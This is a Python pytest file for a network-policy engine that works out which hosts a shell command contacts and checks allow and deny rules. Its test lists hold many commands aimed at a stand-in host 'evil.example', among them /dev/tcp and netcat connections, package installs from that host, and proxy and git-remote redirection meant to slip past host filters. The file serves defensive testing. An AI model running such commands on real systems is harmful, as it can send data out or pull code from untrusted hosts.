"""Rules for hosts: what a command contacts is found in its words, and an address that is only text is none."""

from __future__ import annotations

from typing import Any

import pytest
from tests.policies.commands import ask

from aurora_policies import Policies
from aurora_policies.network_rules import fits_address
from aurora_policies.programs.hosts import contacted
from aurora_policies.repository import Repository
from aurora_policies.schema import NetworkRule
from aurora_policies.shell.words import Word

REMOTES = {
    "remote.origin.url": "git@evil.example:a/b.git",
    "remote.good.url": "https://git.good.example/a",
    "remote.pushed.url": "https://good.example/a",
    "remote.pushed.pushurl": "https://evil.example/a",
    "url.https://evil.example/.insteadof": "short:",
    "submodule.lib.url": "https://evil.example/lib",
}
ONLY_GOOD = {"host": "*", "exclude": ["*.good.example", "good.example", "localhost", "127.*"], "action": "deny"}


def policies(*rules: dict[str, Any]) -> Policies:
    return Policies.model_validate({"network": list(rules)})


CONTACTS = [
    "curl https://evil.example/x",
    "curl -so a -H 'X: y' evil.example",
    "curl -x http://evil.example:3 https://good.example",
    "wget http://user:pass@evil.example:80/",
    "http POST evil.example a=b",
    "ssh -p 22 root@evil.example ls",
    "scp a.txt evil.example:/srv",
    "rsync -a src me@evil.example:dst",
    "git push",
    "git fetch",
    "git push git@evil.example:a.git main2",
    "git clone https://evil.example/a.git",
    "git remote add up https://evil.example/a.git",
    "pip install git+https://evil.example/a",
    "npm install --registry=https://evil.example",
    "nc -w 3 evil.example 80",
    "socat - TCP:evil.example:80",
    "ping -c 1 evil.example",
    "psql -h evil.example -c 'select 1'",
    "echo x > /dev/tcp/evil.example/80",
    "cat < /dev/tcp/evil.example/80",
    "sudo curl evil.example",
    "bash -c 'curl evil.example'",
    "host=evil.example; curl https://$host/",
    "unheard-of --server https://evil.example",
    "curl http://[2001:db8::1]:80/",
    "CURL evil.example",
    "curl --url evil.example",
    "curl -x evil.example:80 https://good.example",
    "curl --socks5 evil.example:1 good.example",
    "curl --connect-to ::evil.example:443 https://good.example",
    "curl --resolve good.example:443:10.0.0.1 https://good.example",
    "curl 'https://evil.example\\@good.example/'",
    "curl https:/evil.example/",
    "curl //evil.example/",
    "wget -e https_proxy=http://evil.example good.example",
    "https_proxy=http://evil.example curl https://good.example",
    "env ALL_PROXY=evil.example:1 curl https://good.example",
    "export PGHOST=evil.example",
    "PIP_INDEX_URL=https://evil.example pip install x",
    "ssh -J me@evil.example:22 good.example",
    "ssh -o HostName=evil.example good.example",
    "scp -o 'ProxyJump evil.example' a good.example:b",
    "rsync -e 'ssh -J evil.example' a good.example:b",
    "rsync a evil.example::b",
    "nc -x evil.example:80 good.example 80",
    "nc.openbsd evil.example 80",
    "http get evil.example",
    "dig x.evil.example",
    "openssl s_client -connect evil.example:443",
    "psql 'host=evil.example dbname=x'",
    "python3 -c 'urlopen(\"https://evil.example/\")'",
    "npm install git@evil.example:a/b.git",
    "git push -u origin main",
    "git push origin HEAD:x",
    "git push pushed",
    "git fetch --multiple good origin",
    "git fetch --all",
    "git -c remote.good.url=https://evil.example/a fetch good",
    "git -c http.proxy=evil.example:80 fetch good",
    "git config remote.good.url https://evil.example/a",
    "git clone short:a",
    "git archive --remote=git@evil.example:a HEAD",
    "git svn clone https://evil.example/a",
    "git submodule update --init",
]
HARMLESS = [
    "curl -s good.example/x",
    "curl https://api.good.example/$X",
    "curl http://127.0.0.1:8000",
    "curl http://0x7f.1/",
    "http :8000/x",
    "git push good x",
    "git clone git@good.example:a",
    "git push good HEAD:x",
    "git push -u good x",
    "git -C a fetch good",
    "git archive HEAD:folder",
    "git remote -v",
    "curl --max-filesize 30 -o a file:///etc/hosts",
    "curl -x http://localhost:3 http://[::1]:8/",
    "curl http://[::ffff:127.0.0.1]/",
    "ssh -F /dev/null -o ProxyJump=none good.example",
    "https_proxy= curl https://good.example",
    "export PGHOST=/run/postgresql no_proxy=evil.example",
    "socat - TCP-LISTEN:80",
    "openssl req -newkey rsa:2048 -keyout a",
    "openssl s_client -servername evil.example good.example:443",
    "nc -l 8000",
    "w3m a.html",
    "echo https://evil.example",
    "grep https://evil.example a",
    "git commit -m https://evil.example",
    "psql -c 'select 1'",
    "python -m pytest",
    "ls",
]


@pytest.mark.parametrize("command", CONTACTS)
def test_a_host_that_a_command_contacts_is_found(command: str) -> None:
    found = ask(command, policies(ONLY_GOOD), settings=REMOTES)
    assert (found.action, found.rule) == ("deny", "network: *")
    assert ask(command, settings=REMOTES).rule != "network: *"


@pytest.mark.parametrize("command", HARMLESS)
def test_what_contacts_no_such_host_passes(command: str) -> None:
    assert ask(command, policies(ONLY_GOOD), settings=REMOTES).action == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "curl $X",
        "ssh $HOST ls",
        "cat urls | xargs -n1 curl",
        'curl "https://good.example:$X/"',  # which may be 1@evil.example
        'curl "https://$X@good.example/"',
        'curl "$X://good.example/"',
        "curl 'https://{good,evil}.example/'",
        "curl -K <(echo url=evil.example)",
        "wget -i list",
        "ssh -F config good.example",
        "git fetch $REMOTE",
    ],
)
def test_a_host_that_is_not_known_is_a_question_if_there_are_rules(command: str) -> None:
    assert ask(command, policies({"host": "evil.example", "action": "deny"})).rule == "undecidable"
    assert ask(command).rule != "network: evil.example"


def test_a_rule_for_every_host_holds_for_one_that_is_not_known() -> None:
    assert ask("curl $X", policies({"host": "*", "action": "deny"})).action == "deny"


@pytest.mark.parametrize(
    ("setting", "remote"), [("branch.feature.remote", "origin"), ("remote.pushdefault", "origin")]
)
def test_a_push_goes_where_the_settings_of_the_branch_say(setting: str, remote: str) -> None:
    good = {"remote.origin.url": "https://evil.example/a", "remote.good.url": "https://good.example/a"}
    start = {"branch.feature.remote": "good", setting: remote}
    assert ask("git push", policies(ONLY_GOOD), settings={**good, "branch.feature.remote": "good"}).action == "allow"
    assert ask("git push", policies(ONLY_GOOD), settings={**good, **start}).action == "deny"


@pytest.mark.parametrize("command", ["git fetch", "git pull", "git ls-remote", "git push"])
def test_the_only_remote_is_contacted_whatever_its_name(command: str) -> None:
    only = {"remote.a.url": "https://evil.example/a"}
    assert ask(command, policies(ONLY_GOOD), settings=only).rule == "network: *"
    two = ask("git fetch", policies(ONLY_GOOD), settings={**only, "remote.b.url": "/b"})
    assert two.action == "allow"  # git takes `origin` for a folder then


def test_each_remote_of_a_group_is_contacted() -> None:
    group = {"remote.a.url": "/a", "remote.b.url": "https://evil.example/b", "remotes.both": "a b"}
    assert ask("git fetch both", policies(ONLY_GOOD), settings=group).rule == "network: *"
    assert ask("git fetch a", policies(ONLY_GOOD), settings=group).action == "allow"


def test_of_two_rules_the_stricter_one_counts_with_its_own_words() -> None:
    rules = policies(
        {"host": "*", "action": "prompt"},
        {"host": "evil.*", "action": "deny", "reason": "it is evil", "instead": "Use a good one."},
    )
    found = ask("curl EVIL.example.", rules)
    assert (found.action, found.reason, found.instead) == ("deny", "it is evil", "Use a good one.")
    assert ask("curl other.example", rules).action == "prompt"


def test_an_allowed_command_may_not_contact_what_a_rule_is_about() -> None:
    rules = Policies.model_validate(
        {"network": [ONLY_GOOD], "commands": [{"pattern": "curl evil.example", "action": "allow"}]}
    )
    assert ask("curl evil.example", rules).action == "deny"


@pytest.mark.parametrize(
    ("host", "address", "fits"),
    [
        ("10.*", "http://167772161/", True),
        ("*.example", "https://u:p@a.example:8/x?y#z", True),
        ("*.example", "a.example", True),
        ("*.example", "https://example.org/a.example", False),
        ("::1", "http://[0:0:0:0:0:0:0:1]/", True),
        ("::1", "::1", True),
        ("FD00:0::1", "http://[fd00::1%25eth0]/", True),
        ("10.*", "http://[::ffff:10.0.0.1]/", True),
        ("10.*", "http://10.evil.example/", False),
        ("*.good.example", "https://evil-good.example/", False),
        ("*.good.example", "https://x.good.example.evil.example/", False),
        ("good.example.", "https://good.example/", True),
        ("localhost", "http://0:80/", True),
        ("127.*", "http://localhost/", True),
        ("b\u00fccher.example", "http://xn--bcher-kva.example/", True),
        ("xn--bcher-kva.example", "http://B\u00dcCHER\u3002example/", True),
        ("evil.example", "http://%65vil.example/", True),
        ("evil.example", "mongodb://good.example,evil.example:1/x", True),
        ("evil.example", "postgres:///x?host=evil.example", True),
        ("evil.example", " ht\ntps:\\\\evil.example", True),
    ],
)
def test_the_host_of_an_address(host: str, address: str, fits: bool) -> None:
    assert fits_address(NetworkRule.model_validate({"host": host, "action": "deny"}), address) is fits


@pytest.mark.parametrize(
    ("name", "word"),
    [("curl", "-" + "a" * 300_000), ("x", "--" + "a-" * 150_000), ("env", "pip_" + "index" * 60_000)],
)
def test_long_words_are_read_within_bounds(name: str, word: str) -> None:
    """Patterns that look back would take minutes."""
    assert list(contacted(name, [Word(word), Word("https://evil.example")], Repository())) == ["evil.example"]
